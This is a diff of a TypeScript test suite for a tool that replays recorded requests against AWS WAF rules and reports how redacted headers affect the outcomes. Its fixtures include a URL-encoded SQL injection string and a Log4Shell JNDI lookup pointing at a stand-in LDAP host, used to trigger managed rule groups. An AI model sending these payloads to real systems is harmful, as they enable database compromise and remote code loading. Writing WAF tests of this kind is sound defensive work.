@@ -117,10 +117,109 @@ test("what only a redacted value could decide cannot be told", () => {
   const rule = ruleOf("key", 0, {
     NotStatement: { Statement: contains("key-", { SingleHeader: { Name: "x-key" } }) },
   });
-  const request = recorded({ headers: [["X-Key", "REDACTED"]] }, { missing: ["redacted values"] });
-  const report = replay([rule], [request]);
+  const request = recorded({ headers: [["X-Key", "REDACTED"]] }, { missing: ["header x-key"] });
+  const report = replay([rule], [request, recorded({ headers: [["X-Key", "key-1"]] })]);
   assert.deepEqual(kindsOf(report), [["cannot be told", "key", 1]]);
-  assert.match(report.warnings.join(), /1 requests hold redacted values/);
+  assert.match(
+    report.warnings.join(),
+    /1 requests hold redacted values that rules look at.*: key \(header x-key\)/,
+  );
+  assert.match(drawReplay(report), /2 requests: 0 change, 1 do not, 1 cannot be told\n/);
+  assert.match(drawReplay(report), /key: 1, for it looks at header x-key, which is not recorded/);
+});
+
+const managed = (name: string, group: string, priority = 0): Rule => {
+  const { Action: _, ...rest } = ruleOf(name, priority, {
+    ManagedRuleGroupStatement: { VendorName: "AWS", Name: `AWSManagedRules${group}` },
+  });
+  return { ...rest, OverrideAction: { None: {} } };
+};
+const letIn = ruleOf("partner", 0, contains("partner-", { SingleHeader: { Name: "authorization" } }), {
+  Allow: {},
+});
+const sqli = "q=1%27%20OR%20%271%27=%271";
+const jndi = "$" + "{jndi:ldap://a.example/x}";
+
+/** Requests whose Authorization was redacted: what changes, and what of it can be told. */
+const REDACTED: readonly (readonly [string, readonly Rule[], RequestSketch, LoggedDecision, unknown])[] = [
+  [
+    "stopped now by a rule that looks elsewhere",
+    [union()],
+    { queryString: "union" },
+    ALLOWED,
+    "newly blocked",
+  ],
+  [
+    "stopped now by a managed rule that looks elsewhere",
+    [managed("sql", "SQLiRuleSet")],
+    { queryString: sqli },
+    ALLOWED,
+    "newly blocked",
+  ],
+  [
+    "stopped now by a managed rule about headers, for another header",
+    [managed("bad", "KnownBadInputsRuleSet")],
+    {
+      headers: [
+        ["Authorization", "REDACTED"],
+        ["X-Note", jndi],
+      ],
+    },
+    ALLOWED,
+    "newly blocked",
+  ],
+  [
+    "let in first, perhaps",
+    [letIn, union()].map((one, Priority) => ({ ...one, Priority })),
+    { queryString: "union" },
+    ALLOWED,
+    "cannot be told",
+  ],
+  [
+    "stopped then by a rule that looks elsewhere",
+    [union({ Count: {} })],
+    { queryString: "union" },
+    blockedBy("union"),
+    "newly let in",
+  ],
+  [
+    "stopped then by a rule about headers that is still there",
+    [managed("bad", "KnownBadInputsRuleSet")],
+    {},
+    blockedBy("bad › Log4JRCE_HEADER"),
+    "cannot be told",
+  ],
+];
+for (const [name, rules, sketch, logged, kind] of REDACTED) {
+  test(`a request with a redacted header, ${name}: ${kind}`, () => {
+    const request = recorded(
+      { headers: [["Authorization", "REDACTED"]], ...sketch },
+      { logged, missing: ["header authorization"] },
+    );
+    const report = replay(rules, [request]);
+    assert.deepEqual(
+      report.changes.map((change) => change.kind),
+      [kind],
+    );
+  });
+}
+
+test("what two web ACLs decide of a redacted value otherwise cannot be told", () => {
+  const key = ruleOf("key", 0, {
+    NotStatement: { Statement: contains("key-", { SingleHeader: { Name: "x-key" } }) },
+  });
+  const request = recorded({ headers: [["X-Key", "REDACTED"]] }, { missing: ["header x-key"] });
+  assert.deepEqual(kindsOf(replay([key], [request], webAclOf([]))), [["cannot be told", "key", 1]]);
+  assert.deepEqual(kindsOf(replay([], [request], webAclOf([key]))), [["cannot be told", "key", 1]]);
+});
+
+test("a request that comes by a rule which is not evaluated is not taken as unchanged", () => {
+  const geo = ruleOf("by-country", 0, { GeoMatchStatement: { CountryCodes: ["NL"] } });
+  const report = replay([geo, { ...union(), Priority: 1 }], [recorded({})]);
+  assert.deepEqual([kindsOf(report), report.unchanged], [[["cannot be told", "by-country", 1]], 0]);
+  assert.match(report.changes[0]!.reason!, /--geo-database/);
+  const same = replay([geo], [recorded({})], webAclOf([geo]));
+  assert.deepEqual([kindsOf(same), same.unchanged], [[], 1]);
 });
 
 test("what a rule stopped that is not evaluated here cannot be told", () => {
